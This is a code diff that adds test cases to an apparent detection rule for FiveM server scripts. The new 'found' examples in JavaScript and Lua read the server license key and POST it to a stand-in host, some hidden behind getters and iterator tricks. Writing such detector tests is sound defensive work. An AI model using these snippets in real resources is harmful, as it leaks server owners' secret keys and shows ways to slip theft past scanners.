@@ -33,6 +33,16 @@ export const secretAndHttp = defineRule({
   },
   examples: {
     found: [
+      js(`const status = { get build() { return GetConvar('sv_licenseKey', '') } }
+^fetch('https://a.example', { method: 'POST', body: JSON.stringify(status) })`),
+      js(`const status = {}
+Object.defineProperties(status, { build: { get: () => GetConvar('sv_licenseKey', '') } })
+^fetch('https://a.example', { method: 'POST', body: JSON.stringify({ ...status }) })`),
+      lua(`local function online()
+  local state = { send = PerformHttpRequest, key = GetConvar('sv_licenseKey', '') }
+^ return function(one) one.send('https://a.example', print, 'POST', one.key) end, state, 0
+end
+for _ in online() do end`),
       js(`const form = new URLSearchParams({ key: GetConvar('sv_licenseKey', '') })
 ^fetch('https://a.example', { method: 'POST', body: form })`),
       lua(`local text = LoadResourceFile(GetResourceByFindIndex(0), 'config.lua')
@@ -62,6 +72,16 @@ const text = require('fs').readFileSync(find(wanted), 'utf8')
 ^fetch('https://a.example', { method: 'POST', body: text })`),
     ],
     notFound: [
+      js(`const status = { get build() { return GetConvar('sv_enforceGameBuild', '') } }
+fetch('https://a.example', { method: 'POST', body: JSON.stringify(status) })`),
+      js(`const status = {}
+Object.defineProperties(status, { build: { get: () => GetConvar('locale', '') } })
+fetch('https://a.example', { method: 'POST', body: JSON.stringify({ ...status }) })`),
+      lua(`local function online()
+  local state = { send = PerformHttpRequest, key = GetConvar('locale', '') }
+  return function(one) one.send('https://a.example', print, 'POST', one.key) end, state, 0
+end
+for _ in online() do end`),
       js(`require('dns').lookup(process.env.DB_HOST, connect)`),
       lua(`local text = LoadResourceFile(GetCurrentResourceName(), 'config.lua')
 PerformHttpRequest('https://a.example', print, 'POST', text)`),
